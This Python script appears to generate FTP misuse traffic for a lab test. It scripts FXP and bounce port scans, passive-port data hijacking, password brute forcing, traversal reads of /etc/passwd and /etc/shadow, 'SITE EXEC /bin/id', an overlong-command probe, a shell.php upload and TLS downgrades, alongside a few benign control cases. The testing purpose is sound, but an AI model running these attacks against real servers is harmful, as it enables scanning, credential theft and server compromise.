"""Runs one client that does what servers should not allow, or that shows what should not be seen.

  misuse.py SCENARIO [FILES]   the scenarios are the functions below, _ for -
"""
import contextlib
import ftplib
import socket
import ssl
import sys
import time

from client import PASSWORD, SERVER, USER, Raw, drop, original

OTHER = "192.0.2.31"


def ready(host=SERVER, **options):
    c = Raw(host, **options)
    c.login()
    c.cmd("TYPE I")
    return c


def fxp():
    """RFC 959 section 2.3, figure 2: the one server's PASV is the other's PORT."""
    one, two = ready(), ready(OTHER)
    n = one.cmd("PASV").split("(")[1].split(")")[0].split(",")
    agreed = two.cmd("PORT " + ",".join(n))
    if agreed.startswith("2"):
        two.cmd("STOR copy.bin")
        one.cmd("RETR photo.bin")
        one.reply()
        two.reply()
    one.quit()
    two.quit()


def bounce_scan():
    """The server as a port scanner: 226 is an open port, 425 a closed one."""
    c = ready()
    for port in sys.argv[2:]:
        if c.announce(OTHER, int(port)).startswith("2") and c.cmd("NLST").startswith("1"):
            c.reply()
    c.quit()


def privileged_port():
    c = ready()
    c.port(80)[0].close()
    c.quit()


def third_party():
    """Another host is at the passive port first; the client comes when the server says 150, and finds it closed."""
    c = ready()
    address = c.pasv(connect=False)
    time.sleep(0.5)
    if c.cmd(sys.argv[3]).startswith("1"):
        with contextlib.suppress(ConnectionError):
            socket.create_connection(address, 5).close()
        c.reply()
    c.quit()


def thief():
    """On the third host: knocks at the passive port until it opens, and takes what comes, or gives a file of its own."""
    print("ready", flush=True)
    while True:
        try:
            data = socket.create_connection((SERVER, 50000), 5)
            break
        except OSError:
            time.sleep(0.05)
    if len(sys.argv) > 3:
        data.sendall(original(sys.argv[3]))
        data.close()
        return
    with contextlib.suppress(OSError):
        while data.recv(65536):
            pass


def listener():
    """On the third host: a service that says nothing."""
    s = socket.create_server((OTHER, 8080))
    print("ready", flush=True)
    while True:
        s.accept()[0].close()


def guesses(users):
    """Logs in with each password, three tries a session."""
    last, n = None, 0
    for user, password in users:
        if n % 3 == 0:
            last = Raw()
            last.reply()
        n += 1
        last.cmd("USER " + user)
        if last.cmd("PASS " + password).startswith("230"):
            return last
        if n % 3 == 0:
            last.sock.close()
    last.sock.close()
    return None


def brute_force():
    guesses([(u, p) for u in ("root", "admin", "labuser") for p in ("123456", "password", "letmein")])


def brute_force_success():
    c = guesses([(USER, p) for p in ("123456", "password", "qwerty", "letmein", "secret", "dragon", "abc123", PASSWORD)])
    c.cmd("TYPE A")
    c.down("LIST", c.pasv())
    c.quit()


def few_failures():
    """Four wrong passwords and the right one: somebody who mistypes."""
    c = guesses([(USER, p) for p in ("labpas", "labpsas", "lapbass", "Labpass", PASSWORD)])
    c.cmd("PWD")
    c.quit()


def path_traversal():
    c = ready()
    for command in ("RETR ../../../../etc/passwd", "RETR ..\\..\\..\\..\\boot.ini", "RETR %2e%2e/%2e%2e/etc/passwd"):
        c.down(command, c.pasv())
    c.cmd("SIZE ../../../../etc/shadow")
    c.cmd("CWD ../../../..")
    c.cmd("PWD")
    c.quit()


def credential_download():
    c = ready()
    c.down("RETR ../../../../../../../../etc/passwd", c.pasv())
    c.quit()


def dots_inside():
    """Paths with .. that stay inside: nothing is wrong with them."""
    c = ready()
    c.cmd("CWD docs/old")
    c.cmd("CWD ../../docs")
    c.down("RETR old/../readme.txt", c.pasv())
    c.down("RETR ../photo.bin", c.pasv())
    c.quit()


def site_commands():
    c = ready()
    for command in ("SITE HELP", "SITE CHMOD 644 readme.txt", "SITE CHMOD 777 photo.bin", "SITE EXEC /bin/id", "SITE CPFR /photo.bin", "SITE CPTO /copy.bin"):
        c.cmd(command)
    c.quit()


def overlong_command():
    c = ready()
    c.cmd("CWD " + "A" * 5000)
    with contextlib.suppress(OSError, EOFError):
        c.quit()


def upload_php():
    c = ready()
    c.up("STOR shell.php", c.pasv(), original("shell.php"))
    c.quit()


def ascii_binary():
    c = Raw()
    c.login()
    c.cmd("TYPE A")
    c.down("RETR photo.bin", c.pasv())
    c.quit()


def slow_download():
    c = ready()
    c.cmd("SIZE photo.bin")
    c.down("RETR photo.bin", c.pasv())
    c.quit()


def tls():
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    return context


def prot_c():
    c = ftplib.FTP_TLS(context=tls(), timeout=8)
    c.connect(SERVER)
    c.login(USER, PASSWORD)
    c.prot_c()
    c.retrbinary("RETR photo.bin", drop)
    c.quit()


def prot_c_after_ccc():
    """CCC (RFC 4217 section 6): the control connection goes back to clear text, and PROT C can be read."""
    c = ftplib.FTP_TLS(context=tls(), timeout=8)
    c.connect(SERVER)
    c.login(USER, PASSWORD)
    c.ccc()
    c.prot_c()
    c.retrbinary("RETR photo.bin", drop)
    c.quit()


if __name__ == "__main__":
    globals()[sys.argv[1].replace("-", "_")]()
